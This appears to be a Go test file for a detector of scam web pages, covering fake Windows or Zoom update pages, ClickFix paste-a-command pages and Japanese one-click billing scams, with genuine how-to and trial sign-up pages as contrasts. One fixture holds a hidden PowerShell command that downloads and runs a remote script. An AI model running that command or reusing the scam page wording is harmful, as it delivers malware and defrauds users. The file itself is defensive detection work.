package features

import "testing"

// TestOwnToolsAndTrialTerms: the how-to's and the real sign-up's voice
// signs (owntools.go, trialterms.go), and the scams that must not get them.
// A sign at full strength leaves the page's claims at 0 (OwnVoice).
func TestOwnToolsAndTrialTerms(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, url, html string
		sign            string  // the voice sign looked at
		want            float64 // its value
		claimGone       string  // a claim feature that must be 0 when the sign holds, or set when it does not
	}{
		{"an IT help page: type cmd, enter the command it shows", "https://kb.example.edu/gpupdate",
			`<title>Windows - Force a Group Policy update</title><h1>Windows - Force a Group Policy update</h1><ol><li>Press Windows key + R.</li><li>Type cmd and click OK.</li><li>Enter the following command:</li></ol><pre><code>gpupdate /force</code></pre><p>Help Desk 608-555-0126</p>`,
			"negative.own-tools", 1, "authority.brand-claimed"},
		{"a news article points at the real updater", "https://news.example.com/windows-update",
			`<title>Windows 11 December update: everything new</title><h1>Windows 11 December update: everything new</h1><p>To install it, open Settings > Windows Update and click "Check for updates".</p>`,
			"negative.own-tools", 1, "authority.title-brand"},
		{"in Japanese: 設定を開き、更新プログラムのチェック", "https://pc.example.jp/win-update",
			`<title>Windows 更新プログラムの入れ方</title><h1>Windows 更新プログラムの入れ方</h1><p>「設定」を開き、Windows Update の「更新プログラムのチェック」を押します。</p>`,
			"negative.own-tools", 1, "authority.title-brand"},
		{"a fake update names Settings too, but says yours is out of date", "https://x.example.top/",
			`<title>Windows Update</title><h1>Critical update required</h1><p>Your Windows is out of date. Open Settings? No: download the update below.</p><a href="/WindowsUpdate.exe">Download</a>`,
			"negative.own-tools", 0, "alarm.update-required"},
		{"a ClickFix page: Win+R, paste, in the command prompt", "https://x.example.top/",
			`<title>Windows Security</title><h1>Windows Defender</h1><ol><li>Open Command Prompt</li><li>Press Ctrl+V</li><li>Press Enter</li></ol>`,
			"negative.own-tools", 0, "authority.brand-claimed"},
		{"a script that copies a command is no how-to", "https://x.example.top/",
			`<title>Windows Update</title><h1>Windows Update</h1><p>Type cmd and enter the following command.</p><script>navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.example.top/a.ps1|iex")</script>`,
			"negative.own-tools", 0, "authority.title-brand"},
		{"a real sign-up: free trial, cancel within it and pay nothing", "https://video.example.jp/regist/complete",
			`<title>登録完了</title><h1>ご登録が完了しました</h1><p>31日間無料トライアルへのご登録ありがとうございます。無料トライアル期間中に解約すれば、月額料金はかかりません。次回ご請求日 2027年1月7日。</p><p>登録内容の確認メールを送信しました。</p>`,
			"negative.trial-terms", 1, "alarm.registered"},
		{"in English", "https://stream.example.com/welcome",
			`<h1>Registration complete</h1><p>Your free trial has started. Cancel anytime before your trial ends and you won't be charged. Your first bill comes on 7 January.</p>`,
			"negative.trial-terms", 1, ""},
		{"a one-click bill: a sum by a deadline, your IP, phone to cancel", "https://x.example.top/",
			`<h1>会員登録が完了しました</h1><p>無料期間中に解約すれば料金はかかりません。ご利用料金 99,000円 を3日以内にお支払いください。お客様のIPアドレス 203.0.113.58 を記録しました。解約はお電話で 050-0000-7725</p>`,
			"negative.trial-terms", 0, "alarm.registered"},
		{"one trial phrase alone is no terms", "https://x.example.top/",
			`<h1>登録完了</h1><p>無料トライアル 登録ありがとうございます ご請求 9,800円</p>`,
			"negative.trial-terms", 0, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := extract(t, e, tc.url, tc.html)
			if got[tc.sign] != tc.want {
				t.Errorf("%s = %v, want %v (features %v)", tc.sign, got[tc.sign], tc.want, got)
			}
			if tc.claimGone == "" {
				return
			}
			if tc.want >= 1 && got[tc.claimGone] != 0 {
				t.Errorf("%s = %v in the how-to's voice, want 0", tc.claimGone, got[tc.claimGone])
			}
			if tc.want == 0 && got[tc.claimGone] == 0 {
				t.Errorf("%s is 0: the scam's claim must stand (features %v)", tc.claimGone, got)
			}
		})
	}
}

// TestHeadlineClaims: a fake update's or a one-click bill's claim in a
// heading, a dialog or the title is full strength; in the body alone one
// phrase stays half.
func TestHeadlineClaims(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, html string
		feature    string
		want       float64
	}{
		{"an update claim in a heading", `<h2>Microsoft Edge の更新が必要です</h2><a href="/EdgeUpdate.exe">更新</a>`, "alarm.update-required", 1},
		{"in English", `<h1>Update required to join this meeting</h1><a href="/ZoomInstaller.exe">Update</a>`, "alarm.update-required", 1},
		{"in the body of a site only: half", `<nav><a href="/">Home</a><a href="/plans">Plans</a><a href="/help">Help</a><a href="/blog">Blog</a></nav><h1>Meeting</h1><p>An update is required.</p><a href="/ZoomInstaller.exe">Update</a>`, "alarm.update-required", 0.5},
		// a bare screen's lines are its whole message (screenLine, 2026-12-07)
		{"in the body of a bare screen: whole", `<h1>Meeting</h1><p>An update is required.</p><a href="/ZoomInstaller.exe">Update</a>`, "alarm.update-required", 1},
		{"a registration claim in the title", `<title>会員登録完了</title><p>ご利用料金 99,000円</p>`, "alarm.registered", 1},
		{"in the body only: half", `<title>会員ページ</title><p>登録完了 ご利用料金 99,000円</p>`, "alarm.registered", 0.5},
		{"a quoted update claim in a heading stays quoted", `<h1>'Your browser is out of date' pages are back</h1>`, "alarm.update-required", quotedStrength},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := extract(t, e, "https://x.example.top/", tc.html)
			if got[tc.feature] != tc.want {
				t.Errorf("%s = %v, want %v (features %v)", tc.feature, got[tc.feature], tc.want, got)
			}
		})
	}
}
